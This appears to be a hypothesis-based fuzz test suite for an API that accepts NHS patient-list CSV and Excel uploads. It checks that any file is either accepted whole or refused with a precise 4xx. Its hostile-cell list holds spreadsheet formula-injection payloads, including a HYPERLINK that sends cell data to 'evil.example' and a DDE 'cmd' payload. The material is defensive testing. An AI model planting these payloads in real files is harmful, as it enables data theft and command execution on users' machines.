"""Property-based uploads (issue 15, part 2): whatever bytes arrive, under whatever name and
content type, the answer is 202 with every row queued exactly once for ingest (which gives each
bad row its reason: see ingest's ``test_rows_fuzz``), or a precise 4xx with nothing registered
and nothing queued. Never a 500, never a half-recorded list."""

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook  # type: ignore[import-untyped]

from cohort_contracts.campaign_requests import RegisterPatientList

from ..conftest import ORG, Harness, running

MAX_ROWS = 25
#: A refusal names what is wrong: these are the only statuses an upload may be refused with.
REFUSALS = {413, 415, 422}

HEADERS = st.sampled_from(
    [
        ["NHS Number", "Date of Birth", "Forename", "Surname"],
        ["NHS No", "DOB"],
        ["\ufeffNHSNumber", "Birth Date", "Address"],
        ["Patient", "Born"],
        ["NHS Number"],
        ["nhs number", "date of birth", '=HYPERLINK("http://x","y")'],
    ]
)
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    '"',
    '""quoted""',
    "a,b;c\td",
    "line\nbreak",
    "cr\rreturn",
    "\ufeff",
    "Ó Briain",
    "x" * 70_000,
    "y" * 140_000,  # over the csv module's field limit
    "   ",
    "",
]
HOSTILE = st.sampled_from(HOSTILE_CELLS)
PLAUSIBLE = st.sampled_from(
    [
        *("9434765919", "943 476 5919", "9434765870", "1234567890", "01/02/1980", "1980-02-29"),
        *("31/02/1980", "tomorrow", "29-Feb-1980", "9999999999", "Ann", "Smith"),
    ]
)
# Mostly plausible cells, so that many files are sound and their rows reach ingest; a hostile
# cell in some of them (a NUL byte, which refuses the whole file, is spliced in by ``_mangle``).
SOUND_CELLS = st.one_of(
    PLAUSIBLE,
    st.sampled_from([h for h in HOSTILE_CELLS if len(h) < 100_000]),
    st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=20),
)
TEXT = st.text(st.characters(exclude_characters="\x00"), max_size=30)
CELLS = st.one_of(PLAUSIBLE, PLAUSIBLE, PLAUSIBLE, PLAUSIBLE, HOSTILE, TEXT)
ROWS = st.lists(st.lists(CELLS, min_size=0, max_size=6), min_size=0, max_size=MAX_ROWS + 3)
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-8", "utf-16"])
CONTENT_TYPES = st.sampled_from(
    [
        "text/csv",
        "application/vnd.ms-excel",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/octet-stream",
        "image/png",
        "text/html; charset=utf-16",
    ]
)
FILENAMES = st.sampled_from(["list.csv", "list.CSV", "list.xlsx", "list.txt", "list", "x.xls"])


def _csv_text(header: list[str], rows: list[list[str]], dialect: dict[str, Any]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", **dialect)
    for row in [header, *rows]:
        try:
            writer.writerow(row)
        except csv.Error:  # QUOTE_NONE with nothing to escape with: write it raw
            buffer.write(dialect.get("delimiter", ",").join(row) + "\n")
    return buffer.getvalue()


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    dialect: dict[str, Any] = {
        "delimiter": draw(st.sampled_from([",", ";", "\t", "|"])),
        "quoting": draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE])),
    }
    if dialect["quoting"] == csv.QUOTE_NONE:
        dialect["escapechar"] = draw(st.sampled_from(["\\", None]))
    text = _csv_text(draw(HEADERS), draw(ROWS), dialect)
    return _mangle(draw, _with_line_endings(draw, text).encode(draw(ENCODINGS), errors="replace"))


@st.composite
def sound_csv_files(draw: st.DrawFn) -> tuple[bytes, int]:
    """Files any clinical system could export: quoted properly, in UTF-8 (with or without a
    BOM) or Windows-1252, whatever the cells hold (formulas, quotes, line breaks, delimiters,
    long cells); and how many patient rows they hold."""
    rows = draw(st.lists(st.lists(SOUND_CELLS, min_size=2, max_size=5), min_size=1, max_size=10))
    dialect = {"delimiter": draw(st.sampled_from([",", ";", "\t"])), "quoting": csv.QUOTE_ALL}
    # Every row names a patient, so that no row is blank (blank rows are not patient rows).
    rows = [["9434765919", *row] for row in rows]
    text = _csv_text(["NHS Number", "Date of Birth", "Forename", "Surname"], rows, dialect)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    return _with_line_endings(draw, text).encode(encoding, errors="replace"), len(rows)


def _with_line_endings(draw: st.DrawFn, text: str) -> str:
    # Mixed line endings: each line break becomes one of the three kinds.
    endings = draw(st.lists(st.sampled_from(["\n", "\r\n", "\r"]), min_size=1, max_size=4))
    # Line breaks inside quoted cells are changed too: the csv module keeps them as they are.
    lines = text.split("\n")
    return "".join(line + endings[i % len(endings)] for i, line in enumerate(lines[:-1]))


def _mangle(draw: st.DrawFn, data: bytes) -> bytes:
    """Now and then a NUL byte spliced in, or the file cut short, or both."""
    if data and draw(st.integers(0, 4)) == 0:
        at = _somewhere(draw, data)
        data = data[:at] + b"\x00" + data[at:]
    if data and draw(st.integers(0, 4)) == 0:
        data = data[: _somewhere(draw, data)]
    return data


def _somewhere(draw: st.DrawFn, data: bytes) -> int:
    """A position in ``data``, drawn as a fraction of it: a workbook's length varies from one
    save to the next (it holds the time it was saved), and what is drawn must not depend on
    it, or hypothesis cannot replay an example."""
    return len(data) * draw(st.integers(0, 999)) // 1000


@st.composite
def xlsx_files(draw: st.DrawFn) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(draw(HEADERS))
    for row in draw(ROWS):
        # openpyxl refuses control characters in cells; a workbook cannot hold them either.
        sheet.append([_printable(cell)[:32_000] for cell in row])
    if draw(st.booleans()):
        sheet["A2"] = '=HYPERLINK("http://evil.example","Click me")'
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    if draw(st.booleans()):
        data = data[: _somewhere(draw, data)]  # a truncated zip
    elif draw(st.booleans()):
        data = _corrupt_member(data)
    return data


def _printable(cell: str) -> str:
    return "".join(ch for ch in cell if ch in "\t\n\r" or ord(ch) >= 0x20)


def _corrupt_member(data: bytes) -> bytes:
    """A sound zip whose worksheet is not XML."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            body = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                body = b"<worksheet><sheetData><row><c" + body[:10]
            target.writestr(item, body)
    return out.getvalue()


FILES = st.one_of(csv_files(), csv_files(), xlsx_files(), st.binary(max_size=2_000))


async def _post(gateway: Harness, data: bytes, filename: str, content_type: str) -> tuple[int, Any]:
    campaign = gateway.campaign.add_campaign(org_id=ORG)
    response = await gateway.client.post(
        f"/v1/campaigns/{campaign.id}/patient-lists",
        files={"file": (filename, data, content_type)},
        data={"channel": "sms"},
        headers=gateway.auth(),
    )
    return response.status_code, response.json()


def _check_outcome(gateway: Harness, status: int, body: Any) -> None:
    registered = gateway.campaign.sent(RegisterPatientList)
    event(f"{status} {body.get('error', {}).get('code', 'accepted')}")
    if status == 202:
        [register] = registered
        assert body["id"] == str(register.list_id)
        rows = sorted(
            (row for batch in gateway.resolve_rows for row in batch.rows),
            key=lambda row: row.row_number,
        )
        # Every row counted at registration is queued, once, in order, for its own reason.
        assert [row.row_number for row in rows] == list(range(1, register.total_rows + 1))
        assert {batch.list_id for batch in gateway.resolve_rows} == {register.list_id}
        assert all(len(row.cells) == len(register.columns) for row in rows)
        return
    assert status in REFUSALS, (status, body)
    error = body["error"]
    assert error["code"] not in ("", "internal_error", "http_error")
    assert error["message"]
    assert registered == []
    assert gateway.resolve_rows == []


# One gateway per test, emptied before each example: starting one per example would be most of
# the test's time.
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)


@pytest.fixture
async def gateway() -> AsyncIterator[Harness]:
    async with running(max_rows=MAX_ROWS) as harness:
        yield harness


def emptied(gateway: Harness) -> Harness:
    gateway.campaign.requests.clear()
    gateway.resolve_rows.clear()
    return gateway


@FUZZ
@given(data=FILES, filename=FILENAMES, content_type=CONTENT_TYPES)
async def test_any_file_is_accepted_whole_or_refused_precisely(
    gateway: Harness, data: bytes, filename: str, content_type: str
) -> None:
    emptied(gateway)
    status, body = await _post(gateway, data, filename, content_type)

    _check_outcome(gateway, status, body)


@FUZZ
@given(file=sound_csv_files(), content_type=CONTENT_TYPES, filename=st.sampled_from(["a.csv", "a"]))
async def test_a_sound_csv_is_accepted_with_every_row_whatever_its_cells_hold(
    gateway: Harness, file: tuple[bytes, int], content_type: str, filename: str
) -> None:
    data, rows = file
    emptied(gateway)
    status, body = await _post(gateway, data, filename, content_type)

    assert status == 202, body
    _check_outcome(gateway, status, body)
    assert body["total_rows"] == rows


@FUZZ
@given(data=xlsx_files(), content_type=CONTENT_TYPES)
async def test_any_workbook_is_accepted_whole_or_refused_precisely(
    gateway: Harness, data: bytes, content_type: str
) -> None:
    emptied(gateway)
    status, body = await _post(gateway, data, "list.xlsx", content_type)

    _check_outcome(gateway, status, body)
